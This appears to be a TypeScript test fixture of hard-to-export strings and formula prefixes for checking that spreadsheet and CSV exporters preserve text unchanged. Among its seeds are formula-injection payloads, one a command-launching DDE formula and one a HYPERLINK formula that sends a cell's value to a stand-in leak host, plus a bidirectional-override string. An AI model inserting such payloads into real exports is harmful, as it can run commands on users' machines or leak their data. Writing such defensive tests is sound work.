/** Texts that break exporters: each of them, behind each of six starts, must come back as it was. */
const seeds: readonly string[] = [
  '', ' ', '  two blanks  ', '\ttab', 'a\tb', '\nline', 'a\nb', 'a\r\nb', 'a\rb', '\r', '\u00a0', '\u3000', '\ufeffbom', '\u200bzero width', 'x\u200d',
  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://leak.example/?x="&A2,"Click")', '+1 202-555-0143', '-5', '--', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠x',
  '\'quoted', '\'=1', '\'\'=1', '\'', '"', '""', '"a","b"', 'a;=1+1', 'a,b', 'a|b', ';', ',', '""""',
  '<b>bold</b>', '&amp;', '&#x41;', '<![CDATA[x]]>', ']]>', '<?xml?>', '<!DOCTYPE x>', '_x0041_', '_x005F_x0041_', '_x000D_', '_x', '__x0041__', '_X0041_',
  'true', 'TRUE', 'FALSE', 'null', 'NULL', 'NaN', 'undefined', '__proto__', 'constructor', '#REF!', '#N/A', 'Infinity', '1E+15', '1.2E+15', '00417', '0x1F',
  '123456789012345678', '1/2/2026', '12:30', '50%', '€ 1,000.00', '١٢٣', '１２３', '½', '−1',
  'Dušan Kovačević', 'Nguyễn Thị Minh', 'Zoë', 'Zoe\u0308', 'Łukasz', 'Ægir', 'İstanbul', 'ﬁ', 'straße', 'Ω', 'Ωμέγα',
  'مرحبا', 'שלום', '\u202eevil\u202c', '\u2066iso\u2069', '田中さん', '김철수', '𠜎𠜱𠝹', '👩‍👩‍👧‍👦', '🇻🇳', '👍🏽', 'e\u0301\u0301\u0301', 'Z̮̞̠͙͔ͅḀ̗̞͈̻̗ḷ͙͎̯̹̞͓G̻O̭̗̮',
  '\u0000', 'a\u0000b', '\u0001', '\u0007', '\u0008', '\u000b', '\u000c', '\u001b[31mred', '\u007f', '\u0085', '\u009f', '\ufffe', '\uffff', '\u2028', '\u2029',
  'x'.repeat(32_767), '\u0000'.repeat(40), '<'.repeat(300), '"'.repeat(255), 'é'.repeat(1000), '😀'.repeat(500),
];

/** Every start with which a spreadsheet program may begin to compute, and none. */
export const starts: readonly string[] = ['', '=', '+', '-', '@', '\t'];

/** More than 515 texts: the seeds above, and some of each plane and of every kind of blank and control. */
export const naughtyTexts: readonly string[] = [
  ...seeds,
  ...Array.from({ length: 0x20 }, (_, code) => `c${String.fromCharCode(code)}c`),
  ...Array.from({ length: 0x60 }, (_, index) => `l${String.fromCharCode(0x80 + index)}`),
  ...Array.from({ length: 0x70 }, (_, index) => `g${String.fromCharCode(0x2000 + index)}g`),
  ...Array.from({ length: 100 }, (_, index) => `p${String.fromCodePoint(0x1f300 + index * 7)}`),
  ...Array.from({ length: 80 }, (_, index) => `_x${(index * 811).toString(16).toUpperCase().padStart(4, '0')}_`),
].map((text) => text.slice(0, 32_767 - 1));
